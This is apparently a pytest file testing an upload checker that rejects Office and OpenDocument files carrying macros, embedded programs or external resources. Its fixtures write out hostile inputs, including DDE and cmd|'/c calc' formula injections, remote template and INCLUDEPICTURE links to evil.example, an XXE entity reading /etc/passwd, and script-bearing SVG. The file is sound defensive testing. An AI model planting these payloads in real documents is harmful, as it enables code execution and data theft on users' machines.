"""Office files with programs or external parts are rejected; ordinary documents are accepted."""

import gzip
import io
import zipfile
from collections.abc import Mapping
from typing import Any

import pytest

from goodword.core.uploads import office, xml
from goodword.core.uploads.office import check
from goodword.core.uploads.xml import Elsewhere, Programs, UnreadableXml

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100
RELATION = (
    '<?xml version="1.0"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<r:Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}"{mode}/></r:Relationships>'
)
EXTERNAL = ' TargetMode="External"'


def archive(files: Mapping[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as whole:
        for name, content in files.items():
            whole.writestr(name, content)
    return buffer.getvalue()


def odt(content: str = "", **more: str) -> bytes:
    """An OpenDocument text with these parts."""
    parts = {
        f"{name}.xml": f"<office>{inner}</office>" for name, inner in {"content": content, **more}.items()
    }
    return archive(
        {"mimetype": "application/vnd.oasis.opendocument.text", "Pictures/1.png": b"\x89PNG", **parts}
    )


def field(*pieces: str, result: str = "") -> dict[str, bytes | str]:
    """A Word field whose instruction is split over several runs."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    runs = "".join(
        piece if piece.startswith("<") else f"<w:r><w:rPr/><w:instrText>{piece}</w:instrText></w:r>"
        for piece in pieces
    )
    whole = mark.format("begin") + runs + mark.format("separate") + result + mark.format("end")
    return {"word/document.xml": f"<w:body><w:p>{whole}</w:p></w:body>"}


def docx(more: Mapping[str, bytes | str] | None = None, *, types: str = "") -> bytes:
    return archive(
        {
            "[Content_Types].xml": f"<Types>{types}</Types>",
            "_rels/.rels": RELATION.format(kind="officeDocument", target="word/document.xml", mode=""),
            "word/document.xml": "<w:document/>",
            "word/media/image1.png": b"\x89PNG\r\n\x1a\n",
            "xl/printerSettings/printerSettings1.bin": b"\x00\x01",
            **(more or {}),
        }
    )


def relation(kind: str, target: str = "https://example.com", mode: str = EXTERNAL) -> dict[str, bytes | str]:
    return {"word/_rels/document.xml.rels": RELATION.format(kind=kind, target=target, mode=mode)}


@pytest.mark.parametrize(
    "content",
    [
        docx(),
        docx(relation("hyperlink")),
        docx(relation("hyperlink", "mailto:ada@mail.example")),
        docx(relation("image", "media/image1.png", "")),
        docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": docx()}),
        docx(relation("attachedTemplate", "file:///C:\\Users\\Ada\\Templates\\CV.dotx")),
        docx(relation("attachedTemplate", "file:///Users/ada/Library/Group%20Containers/CV.dotx")),
        docx({"word/media/image1.emz": gzip.compress(b"\x01\x00\x00\x00drawing")}),
        docx(
            {
                "word/media/image1.svg": "<!DOCTYPE svg><svg><style>a{fill:url(#b)}</style>"
                '<a href="https://example.com/"/><image href="data:image/png,x"/></svg>'
            }
        ),
        docx({"xl/worksheets/sheet1.xml": "<s><f>SUM('Image (2)'!A1)&amp;\"call (us)\"</f><v>1</v></s>"}),
        docx(
            {
                "word/vmlDrawing1.vml": '<x><v:shape href="https://example.com/"/><v:imagedata o:href="cid:1"/></x>'
            }
        ),
        docx({"customXml/item1.xml": '<item href="https://example.com/"/>'}),
        docx({"ppt/slides/slide1.xml": '<s><a:hlinkClick r:id="rId1"/><a:hlinkMouseOver r:id=""/></s>'}),
        docx({"xl/worksheets/sheet1.xml": '<s><f>SUM({1,2;3,4})&amp;"a|b!"</f></s>'}),
        docx(
            {"word/document.xml": '<d><a:blip r:embed="rId1"/><v:imagedata r:id="rId2" o:href="cid:a"/></d>'}
        ),
        docx({"xl/connections.xml": '<connections><connection id="1"/></connections>'}),
        archive({"mimetype": "x", "content.xml": "<office/>", "Configurations2/accelerator/current.xml": ""}),
        archive(
            {"content.xml": "<office/>", "Object 1/content.xml": "<chart/>", "META-INF/manifest.xml": "<m/>"}
        ),
    ],
)
def test_ordinary_documents_are_accepted(content: bytes) -> None:
    check(content)


@pytest.mark.matrix
@pytest.mark.parametrize(
    "more",
    [
        {"word/vbaProject.bin": b"x"},
        {"WORD\\VBAPROJECT.BIN": b"x"},
        {"word/activeX/activeX1.xml": "<x/>"},
        {"xl/macrosheets/sheet1.xml": "<x/>"},
        {"xl/dialogsheets/sheet1.xml": "<x/>"},
        {"word/embeddings/oleObject1.bin": OLE},
        {"word/media/image2.png": OLE},
        {"word/media/image2.png": b"MZ\x90\x00"},
        {"word/embeddings/tool.exe": b"x"},
        {"word/embeddings/run.VBS": b"x"},
        {"word/embeddings/x.docm": b"x"},
        {"word/embeddings/Sheet.xlsx": docx({"xl/vbaProject.bin": b"x"})},
        {"word/embeddings/package1.bin": docx({"xl/vbaProject.bin": b"x"})},
        {"Basic/Standard/Module1.xml": "<x/>"},
        {"basic/script-lc.xml": "<x/>"},
        {"Scripts/python/run.xml": "<x/>"},
        {"META-INF/macrosignatures.xml": "<x/>"},
        {
            "content.xml": '<e xlink:href="vnd.sun.star.script:LibreLogo|x.py$run?language=Python&amp;location=share"/>'
        },
        {"styles.xml": '<e xlink:href="vnd.sun.star.script:x"/>'.encode("utf-16")},
        {"content.xml": "<o>" + "<a/>" * 400_000 + '<e xlink:href="vnd.sun.star.script:x"/></o>'},
        relation("oleObject", "embeddings/oleObject1.bin", ""),
        relation("vbaProject", "vbaProject.bin", ""),
        relation("aFChunk", "c.rtf", ""),
        {
            "word/document.xml": '<w:p><w:instrText xml:space="preserve"> DDEAUTO c:\\x "y"</w:instrText></w:p>'
        },
        {"content.xml": '<a><office:dde-source office:dde-application="cmd"/></a>'},
        {"content.xml": '<e xlink:href="vnd.sun.star.&#115;cript:x"/>'},
        {"content.xml": '<e xlink:href="vnd.sun.star.&#x73;cript:x"/>'},
        *(
            {f"word/embeddings/x{ending}": b"x"}
            for ending in (".xll", ".chm", ".mht", ".exe ", ".PS1.", ".iso")
        ),
    ],
    ids=lambda more: next(iter(more)),
)
def test_programs_are_rejected(more: dict[str, bytes | str]) -> None:
    with pytest.raises(Programs):
        check(docx(more))


@pytest.mark.parametrize(
    "kind", ["application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-office.vbaProject"]
)
def test_macro_content_types_are_rejected(kind: str) -> None:
    with pytest.raises(Programs):
        check(docx(types=f'<Default Extension="bin" ContentType="{kind}"/>'))


@pytest.mark.parametrize(
    "more",
    [
        relation("attachedTemplate", "https://evil.example/t.dotm"),
        relation("attachedTemplate", "http://evil.example/t.dotm", ' TargetMode="external "'),
        *(
            relation("attachedTemplate", target)
            for target in ("\\\\evil\\t.dotm", "//evil/t.dotm", "file://evil/t.dotm", "file:////evil/t.dotm")
        ),
        *(
            relation("attachedTemplate", target)
            for target in ("file:///%5C%5Cevil/t.dotm", "/\\evil\\t.dotm")
        ),
        relation("image", "file:///C:/x.png"),
        relation("image", "\\\\evil.example\\share\\x.png"),
        relation("frame"),
        relation("externalLinkPath"),
        {
            "word/_rels/settings.xml.rels": RELATION.format(kind="image", target="x", mode=EXTERNAL).encode(
                "utf-16"
            )
        },
    ],
)
def test_external_resources_are_rejected(more: dict[str, bytes | str]) -> None:
    with pytest.raises(Elsewhere):
        check(docx(more))


INNER = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>7</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)


@pytest.mark.parametrize(
    "more",
    [
        field(" PAGE ", result="<w:r><w:t>DDE</w:t></w:r>"),
        field(' HYPERLINK "https://example.com/dde" '),
        field(" TOC ", '\\o "1-3"', result=INNER),
        field(" = ", INNER, " - 1"),
        field("MERGEFIELD LINK"),
        field(),
        {"word/document.xml": '<w:p><w:fldSimple w:instr=" DATE "/><w:t>DDEAUTO</w:t></w:p>'},
    ],
)
def test_harmless_word_fields_are_accepted(more: dict[str, bytes | str]) -> None:
    check(docx(more))


@pytest.mark.parametrize(
    ("more", "problem"),
    [
        (field(' INCLUDEPICTURE "http://evil.example/p.png" \\d'), Elsewhere),
        (field("includetext", ' "\\\\evil\\t.docx"'), Elsewhere),
        (field("IN", "CLUDE", "PICTURE", ' "http://evil.example/"'), Elsewhere),
        (field('LINK Excel.Sheet.12 "C:\\x.xlsx"'), Elsewhere),
        (field("DATABASE \\d x"), Elsewhere),
        (field("RD x.docx"), Elsewhere),
        (field(" D", "DE", "AUTO ", 'c:\\x "y"'), Programs),
        (field("D", "<w:r><w:t>DE</w:t></w:r>", " x"), Programs),
        (field("\u200b", "DDE"), Programs),
        (field("DD", INNER, "E"), Programs),
        (field("IF 1 = 1 ", str(field("DDEAUTO")["word/document.xml"])), Programs),
        (field(INNER, " c:\\x"), UnreadableXml),
        ({"word/header1.xml": '<h><w:fldSimple w:instr="&#68;DE x"/></h>'}, Programs),
        (
            {"word/document.xml": "<w:p><w:instrText>DD</w:instrText><w:instrText>EAUTO</w:instrText></w:p>"},
            Programs,
        ),
        ({"word/document.xml": "<w:p><w:instrText>D<![CDATA[D]]>E<!-- --></w:instrText></w:p>"}, Programs),
        (
            {
                "word/document.xml": '<w:b><w:p><w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText></w:p>'
                '<w:p><w:instrText>E</w:instrText><w:fldChar w:fldCharType="end"/></w:p></w:b>'
            },
            Programs,
        ),
        (
            {
                "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
            },
            Programs,
        ),
        ({"xl/externalLinks/externalLink1.xml": "<externalLink><oleLink/></externalLink>"}, Elsewhere),
        ({"xl/connections.xml": '<c><connection refreshOnLoad="1"/></c>'}, Elsewhere),
        (
            {"xl/connections.xml": '<c><connection><webPr url="http://evil.example/"/></connection></c>'},
            Elsewhere,
        ),
        (
            {"xl/worksheets/sheet1.xml": '<s><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)</f></s>'},
            Elsewhere,
        ),
        ({"xl/worksheets/sheet1.xml": "<s><f>cmd|'/c calc'!A0</f></s>"}, Programs),
        ({"xl/worksheets/sheet1.xml": "<s><f>'cmd' |'/c calc' !A0</f></s>"}, Programs),
        ({"xl/worksheets/sheet1.xml": '<s><f>IMPORTXML("http://evil.example/")</f></s>'}, Elsewhere),
        ({"xl/worksheets/sheet1.xml": "<s><f>'\\\\evil\\[x.xlsx]S'!A1</f></s>"}, Elsewhere),
        ({"xl/worksheets/sheet1.xml": "<s><f>INDIRECT(\"'http://evil.example/x'#A.A1\")</f></s>"}, Elsewhere),
        ({"word/document.xml": '<d><a:blip r:embed="rId1" r:link="rId2"/></d>'}, Elsewhere),
        ({"word/document.xml": '<d><v:imagedata r:id="rId1" r:href="rId2"/></d>'}, Elsewhere),
        ({"word/_rels/settings.xml.rels": relation("hyperlink")["word/_rels/document.xml.rels"]}, Elsewhere),
        ({"word/media/a.emz": gzip.compress(b"MZ")}, Programs),
        ({"ppt/slides/slide1.xml": '<a:hlinkClick r:id="r" action="ppaction://program"/>'}, Programs),
        ({"ppt/slides/slide1.xml": '<a:hlinkMouseOver r:id="r"/>'}, Elsewhere),
        ({"word/vmlDrawing1.vml": '<v:fill src="http://evil.example/x.png"/>'}, Elsewhere),
        ({"word/media/image1.svg": '<svg><image xlink:href="http://evil.example/x.png"/></svg>'}, Elsewhere),
    ],
)
def test_active_office_content_is_rejected(more: dict[str, bytes | str], problem: type[Exception]) -> None:
    with pytest.raises(problem):
        check(docx(more))


@pytest.mark.parametrize(
    "content",
    [
        odt('<text:a xlink:href="https://example.com/"/><draw:image xlink:href="Pictures/1.png"/>'),
        odt('<draw:object xlink:href="./Object 1"/><chart:chart xlink:href="."/><text:script-free/>'),
        odt('<form:form xlink:href=""/><draw:area-rectangle xlink:href="https://example.com/"/>'),
        odt('<presentation:event-listener presentation:action="show" xlink:href="#page2"/>'),
        odt(meta='<meta:template xlink:href="file:///usr/share/templates/CV.ott"/>'),
        odt(meta='<meta:template xlink:href="../../Templates/CV.ott"/><meta:auto-reload/>'),
        odt("<table:table-cell table:formula=\"of:=SUM([$'Image (2)'.A1])\"/>"),
        archive({"mimetype": "x", "Object 1/content.xml": '<chart:chart xlink:href=".."/>'}),
    ],
)
def test_ordinary_open_documents_are_accepted(content: bytes) -> None:
    check(content)


@pytest.mark.parametrize(
    "element", ["draw:image", "draw:object", "draw:floating-frame", "text:section-source"]
)
@pytest.mark.parametrize(
    "target",
    ["http://evil.example/x", "HTTPS://evil.example/x", "//evil/x", "\\\\evil\\x", "../x", "file:///C:/x"],
)
def test_open_documents_with_external_resources_are_rejected(element: str, target: str) -> None:
    with pytest.raises(Elsewhere):
        check(odt(f'<{element} xlink:href="{target}"/>'))
    with pytest.raises(Elsewhere):
        check(odt(styles=f'<q:{element.partition(":")[2]} z:href=" {target}"/>'))


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (odt(meta='<meta:template xlink:href="http://evil.example/t.ott"/>'), Elsewhere),
        (odt(meta='<meta:template xlink:href="file://evil/t.ott"/>'), Elsewhere),
        (odt(meta='<meta:auto-reload xlink:href="http://evil.example/"/>'), Elsewhere),
        (odt('<c table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)"/>'), Elsewhere),
        (odt("<c table:formula=\"of:=['file:///C:/x.ods'#$A.A1]\"/>"), Elsewhere),
        (odt('<c table:formula="of:=DDE(&quot;cmd&quot;;1;2)"/>'), Programs),
        (odt('<text:dde-connection-decl office:dde-application="cmd"/>'), Programs),
        (odt('<presentation:event-listener presentation:action="execute" xlink:href="x"/>'), Programs),
        (odt('<script:event-listener script:macro-name="x"/>'), Programs),
        (odt('<text:a xlink:href="vnd.sun.star.script:x"/>'), Programs),
        (odt("<office:script/>"), Programs),
        (odt("<text:execute-macro/>"), Programs),
        (odt("<draw:object-ole><office:binary-data>x</office:binary-data></draw:object-ole>"), Programs),
        (odt('<form:form form:datasource="http://evil.example/x.odb"/>'), Elsewhere),
    ],
)
def test_open_documents_with_active_content_are_rejected(content: bytes, problem: type[Exception]) -> None:
    with pytest.raises(problem):
        check(content)


@pytest.mark.matrix
@pytest.mark.parametrize(
    "inside",
    [
        OLE,
        b"MZ\x90\x00This program cannot be run in DOS mode.\r\n$PE\x00\x00\x64\x86",
        b"\x7fELF\x02\x01\x01",
        b"Rar!\x1a\x07\x00",
        b"7z\xbc\xaf\x27\x1c",
        b"MSCF\x00\x00\x00\x00",
        archive({"a.txt": b"a"}),
    ],
)
@pytest.mark.parametrize("before", [b"\x00", b"\x89PNG\r\n" + b"x" * 2_097_140, b"\x00" * 1_048_575])
def test_embedded_programs_and_archives_are_found_at_any_offset(inside: bytes, before: bytes) -> None:
    with pytest.raises(Programs):
        check(docx({"word/media/image2.png": before + inside}))


@pytest.mark.parametrize(
    "more",
    [
        {"word/media/a.bin": archive({"a.txt": b"a"})},
        {"word/media/a.docx": archive({"a.txt": b"a"})},
        {"word/media/a.zip": b"x"},
        {"word/media/a.bin": b"\x1f\x8b\x08x"},
        {"word/media/a.bin": b"\x00" * 257 + b"ustar"},
    ],
)
def test_nested_archives_are_rejected(more: dict[str, bytes | str]) -> None:
    with pytest.raises(Programs):
        check(docx(more))


def test_embedded_documents_share_one_size_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    many = docx({f"word/embeddings/{n}.docx": docx({"a.bin": b"\x00" * 100_000}) for n in range(20)})
    check(many)
    monkeypatch.setattr(office, "MOST_UNPACKED", 1_000_000)
    with pytest.raises(UnreadableXml):
        check(many)
    monkeypatch.undo()
    monkeypatch.setattr(xml, "MOST_ELEMENTS", 50)
    with pytest.raises(UnreadableXml):
        check(docx({f"word/embeddings/{n}.docx": docx() for n in range(60)}))


@pytest.mark.parametrize("part", ["word/document.xml", "word/_rels/x.rels", "[content_types].xml"])
def test_deeply_nested_xml_is_rejected(part: str) -> None:
    with pytest.raises(UnreadableXml):
        check(archive({part: "<a>" * 3_000 + "</a>" * 3_000}))


@pytest.mark.slow
def test_unreadable_files_are_rejected() -> None:
    nested = docx()
    for _ in range(4):
        nested = docx({"word/embeddings/a.docx": nested})
    doctype = '<!DOCTYPE x [<!ENTITY e "External">]><Relationships/>'
    wrong = [
        nested,
        docx()[:200],
        b"no archive",
        docx({"word/_rels/x.rels": doctype}),
        docx({"word/_rels/x.rels": "<Relationships>"}),
        docx({"word/Document.xml": "<twice/>"}),
        docx({"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        archive({f"{n}.xml": b"" for n in range(office.MOST_ENTRIES + 1)}),
    ]
    for content in wrong:
        with pytest.raises(UnreadableXml):
            check(content)


@pytest.mark.parametrize(
    "content",
    [
        docx(relation("image", mode=EXTERNAL + ' xmlns:x="urn:x" x:TargetMode="Internal"')),
        docx(relation("attachedTemplate", mode=EXTERNAL + ' xmlns:x="urn:x" x:Type="a/hyperlink"')),
        docx({"content.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>'}),
        docx({"content.xml": '<?xml version="1.0" encoding="IBM037"?><a/>'.encode("cp037")}),
    ],
)
def test_content_that_parsers_read_differently_is_rejected(content: bytes) -> None:
    with pytest.raises((UnreadableXml, Elsewhere)):
        check(content)


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_unusual_compression_is_rejected(method: int) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as whole:
        whole.writestr("content.xml", b"<a/>")
    with pytest.raises(UnreadableXml):
        check(buffer.getvalue())


def test_zip_bombs_are_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "MOST_UNPACKED", 1_000_000)
    with pytest.raises(UnreadableXml):
        check(docx({"word/media/large.emf": b"\x00" * 1_100_000}))
    monkeypatch.undo()
    monkeypatch.setattr(office, "_MOST_OF_A_PART", 1_000_000)
    with pytest.raises(UnreadableXml):
        check(docx({"word/_rels/x.rels": b" " * 1_100_000}))


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("a,b\n1,=cmd|' /C calc'!A0\n", Programs),
        ("a;\"=cmd|' /C calc'!A0\"", Programs),
        ("@SUM(1+1)*cmd|' /C calc'!A0", Programs),
        ("a\t-2+3+cmd|'/c calc'!A0", Programs),
        ('=DDE("cmd";"/c calc";"x")', Programs),
        ('=WEBSERVICE(""http://evil.example/?""&A1)', Elsewhere),
        ("a\r=cmd|'/c calc'!A1", Programs),
        ("-',=cmd|'/c calc'!A1", Programs),
        ("sep=~\nx~=cmd|'/c calc'!A1", Programs),
        ("\"=cmd|\n'/c calc'!A1\"", Programs),
        ("=cmd |'/c calc' !A1", Programs),
        ("='cmd'|'/c calc'!A1", Programs),
        *((f"a,{blank}=cmd|'/c calc'!A1", Programs) for blank in ("\xa0", "\x85", "\u2028", "\v", "\u3000")),
        ("＝cmd|'/c calc'!A1", Programs),
        ("＝ｃｍｄ｜＇/c calc＇！A1", Programs),
        ('=EXEC("calc.exe")', Programs),
        ("=CALL(A1,A2)", Programs),
        *((f"=IMAGE({cell})", Elsewhere) for cell in ("$A$2", "A:A", "1:1", "R1C1", "-A2", "A2&B2", "ab12")),
        ("ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;K0;EEXEC(A)", Programs),
        (r"='\\evil\share\[x.xlsx]S'!A1", Elsewhere),
        (r"=\\evil\share\[x.xlsx]S!A1", Elsewhere),
        ("='https://evil.example/[x.xlsx]S'!A1", Elsewhere),
        ("='https://evil.example/it''s/[x.xlsx]S'!A1", Elsewhere),
        ("='https://evil.example/x.ods'#$S.A1", Elsewhere),
        (r"='\\evil\x.ods'#$S.A1", Elsewhere),
        ("=INDIRECT(\"'https://evil.example/x.ods'#$S.A1\")", Elsewhere),
        ("=IMAGE(A2)", Elsewhere),
        *(
            (f'={name}("https://evil.example/")', Elsewhere)
            for name in ("IMPORTXML", "importdata", "IMPORTCSV")
        ),
        ("<html><img src='https://evil.example/x'></html>", UnreadableXml),
    ],
)
def test_csv_files_with_active_formulas_are_rejected(text: str, problem: type[Exception]) -> None:
    with pytest.raises(problem):
        xml.check_table(text)


@pytest.mark.parametrize(
    "text",
    [
        "a,b\n1,-2.5\n",
        "- a|b (call us!)\n",
        "=SUM(A1:A3)",
        "cmd|'/c'!A0 in words",
        "name|-1|+49 30 1234",
        "image (2), -1",
        "a | y! | z, -1",
        "Name,E-mail,Balance\nO'Neil,ada@mail.example,-12.50\nD'Arcy,d-a@mail.example,+3\n",
        'a,"So E = mc2, and a=b - or not! (Really?)"\n',
        "Importance (1-5),Call (30 min),call (us),call (10:30),e-mail\n-1,a,b,c\n",
        "https://example.com/a-b,[done] well!\n",
        "C:\\Users\\ada-1 [old]\n",
        "ID;Position;Ende\n1;C;-5\n",
        "- [ ] it's (see 'a' | 'b')\n",
        "<5 years,-1",
    ],
)
def test_ordinary_csv_files_are_accepted(text: str) -> None:
    xml.check_table(text)


LINKED = '<w:document><a:blip r:link="rId1"/></w:document>'
BOM = "\ufeff"
DECLARED = (
    '<Override PartName="/word/d.dat" ContentType="application/wordprocessingml.main+xml"/>',
    '<Override PartName="/WORD/%64.dat" ContentType="text/xml; charset=x"/>',
    '<Default Extension="DAT" ContentType="application/xml"/>',
)


@pytest.mark.matrix
@pytest.mark.parametrize("types", ["", *DECLARED])
@pytest.mark.parametrize(
    "before", ["", BOM, " " * 4000, " " * 5000, " " * 2**20, "\n" * 2**21, BOM + "\t" * 2**20, "\0" * 2**20]
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be", "utf-32", "cp037"])
def test_xml_is_checked_under_any_part_name_and_encoding(types: str, before: str, encoding: str) -> None:
    if encoding == "cp037":
        content = f'<?xml version="1.0" encoding="IBM037"?>{LINKED}'.encode(encoding)
        content = before.replace(BOM, "").encode() + content
    else:
        content = (before + LINKED).encode(encoding)
    with pytest.raises((Elsewhere, UnreadableXml)):
        check(docx({"word/d.dat": content}, types=types))


@pytest.mark.parametrize("types", DECLARED)
def test_parts_declared_as_xml_must_be_xml(types: str) -> None:
    check(docx({"word/d.dat": "<w:document/>"}, types=types))
    for content in ("w:document", "+ADw-w:document/+AD4-", b"\x89PNG"):
        with pytest.raises(UnreadableXml):
            check(docx({"word/d.dat": content}, types=types))


def test_blank_binary_parts_are_accepted() -> None:
    check(docx({"a.bin": b"\x00" * 3_000_000, "b.bin": b"\x00" * 2_000_000 + b"x<"}))


def test_ambiguous_archives_are_rejected() -> None:
    one, other = docx({"word/header1.xml": "<h/>"}), docx({"word/header1.xml": LINKED})
    end = one.rindex(b"PK\x05\x06")
    moved = one[: end + 16] + (int.from_bytes(one[end + 16 : end + 20], "little") + 4).to_bytes(4, "little")
    commented = one[: end + 20] + len(one).to_bytes(2, "little") + one
    for content in (
        other + one,
        one + other,
        one + b"x",
        moved + one[end + 20 :],
        commented,
        one[:end] + one[end:].replace(b"PK\x05\x06", other[-22:] + b"PK\x05\x06"),
        one[: one.index(b"PK\x01\x02")] + other,
    ):
        with pytest.raises(UnreadableXml):
            check(content)
    check(one[: end + 20] + b"\x03\x00abc")


def test_streamed_archives_are_accepted() -> None:
    class Stream(io.RawIOBase):
        def __init__(self) -> None:
            self.content = b""

        def writable(self) -> bool:
            return True

        def write(self, piece: Any) -> int:
            self.content += bytes(piece)
            return len(piece)

    buffer = Stream()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as whole:
        whole.writestr("[Content_Types].xml", "<Types/>")
        with whole.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(b"<w:document/>")
    check(buffer.content)


HYPERLINK = relation("hyperlink")


def using(element: str) -> bytes:
    """A document whose only relation is an external hyperlink, used by this element."""
    return docx({"word/document.xml": f"<w:document>{element}</w:document>", **HYPERLINK})


@pytest.mark.parametrize(
    "element",
    ['<w:hyperlink r:id="rId1"/>', '<a:hlinkClick r:id="rId1"/>', '<hyperlink ref="A1" r:id="rId1"/>'],
)
def test_hyperlinks_may_be_external(element: str) -> None:
    check(using(element))


@pytest.mark.parametrize(
    "element",
    [
        *(
            f'<{name} r:link="rId1"/>'
            for name in ("a:videoFile", "a:audioFile", "a:quickTimeFile", "p14:media")
        ),
        *(
            f'<{name} r:embed="rId1"/>'
            for name in ("asvg:svgBlip", "p14:media", "a:blip", "a:snd", "a:hlinkClick")
        ),
        *(
            f'<{name} r:id="rId1"/>'
            for name in (
                *("w:subDoc", "w:altChunk", "w:control", "w:dataSource", "o:OLEObject", "p:oleObj", "w:src"),
                *("c:externalData", "w:headerReference", "w:sourceFileName", "drawing", "v:imagedata"),
            )
        ),
        '<v:imagedata o:relid="rId1"/>',
        '<p:oleObj x:id="rId1"/>',
    ],
)
def test_other_elements_cannot_use_a_hyperlink_relation(element: str) -> None:
    with pytest.raises(Elsewhere):
        check(using(element))


def test_linked_objects_and_connections_are_rejected() -> None:
    for element in ('<o:OLEObject Type="Link" r:id="rId7"/>', '<w:connectString w:val="x"/>'):
        with pytest.raises(Elsewhere):
            check(docx({"word/document.xml": f"<d>{element}</d>"}))
    check(docx({"word/document.xml": '<d><o:OLEObject Type="Embed" r:id="rId7"/></d>'}))


@pytest.mark.parametrize("mode", ["", ' TargetMode="Internal"', EXTERNAL])
@pytest.mark.parametrize(
    "target", ["https://evil.example/", "\\\\evil\\x", "//evil/x", " file:///x", "%5C%5Cevil"]
)
def test_a_url_is_external_whatever_its_relation_says(target: str, mode: str) -> None:
    with pytest.raises(Elsewhere):
        check(docx(relation("image", target, mode)))


TO_CLICK = [
    "https://example.com/?a=b:c",
    "HTTP://example.com",
    "mailto:a@b.example",
    "tel:+49",
    "#part",
    "a/b.txt",
]
NOT_TO_CLICK = [
    *("javascript:alert(1)", "ms-msdt:/id", "file:///C:/x", "\\\\evil\\x", "//evil/x", "/x", "ftp://x/"),
    *(
        "java&#9;script:x",
        " ms-word:ofe|u|x",
        "data:text/html,x",
        "../x",
        "a/../../x",
        "search-ms:query=x",
        "smb://x",
    ),
]


@pytest.mark.parametrize("target", TO_CLICK)
def test_hyperlinks_may_open_web_pages_and_places_in_the_file(target: str) -> None:
    check(docx(relation("hyperlink", target)))
    check(odt(f'<text:a xlink:href="{target}"/>'))


@pytest.mark.parametrize("target", NOT_TO_CLICK)
def test_hyperlinks_may_open_nothing_else(target: str) -> None:
    with pytest.raises((Elsewhere, Programs)):
        check(docx(relation("hyperlink", target)))
    with pytest.raises((Elsewhere, Programs)):
        check(odt(f'<text:a xlink:href="{target}"/>'))
    with pytest.raises((Elsewhere, Programs)):
        check(docx({"word/media/a.svg": f'<svg><a href="{target}"/></svg>'}))


@pytest.mark.parametrize(
    "inside",
    [
        '<rect onload="x"/>',
        '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>',
        "<script>x</script>",
        '<rect fill="url( &apos;https://evil.example/x#a&apos;)"/>',
        '<rect style="fill:url(//evil.example/x)"/>',
        "<style>a{fill:url(https://evil.example/x)}</style>",
        "<style><![CDATA[@import 'https://evil.example/x.css';]]></style>",
        "<style>a{fill:\\75rl(https://evil.example/x)}</style>",
        '<g xml:base="https://evil.example/"/>',
        '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
        '<a><set attributeName="xlink:href" to="javascript:x"/></a>',
        '<feImage href="https://evil.example/x.png"/>',
    ],
)
@pytest.mark.parametrize("part", ["word/media/a.svg", "word/media/a.bin", "customXml/a.xml"])
def test_active_svg_is_rejected(inside: str, part: str) -> None:
    with pytest.raises((Elsewhere, Programs)):
        check(docx({part: f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'}))


@pytest.mark.parametrize("part", ["word/media/a.svg", "word/document.xml", "customXml/item1.xml", "a.bin"])
@pytest.mark.parametrize(
    "before",
    [
        '<!DOCTYPE a SYSTEM "https://evil.example/x.dtd">',
        '<!DOCTYPE a PUBLIC "x" "https://evil.example/x.dtd">',
        '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY e "x">]>',
        '<!DOCTYPE a [<!ENTITY % e SYSTEM "https://evil.example/"> %e;]>',
        '<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>',
    ],
)
def test_external_dtds_entities_and_stylesheets_are_rejected(before: str, part: str) -> None:
    with pytest.raises((UnreadableXml, Elsewhere)):
        check(docx({part: f"{before}<a/>"}))


def test_compressed_svg_is_rejected() -> None:
    with pytest.raises(Programs):
        check(docx({"word/media/a.svgz": gzip.compress(b"<svg/>")}))
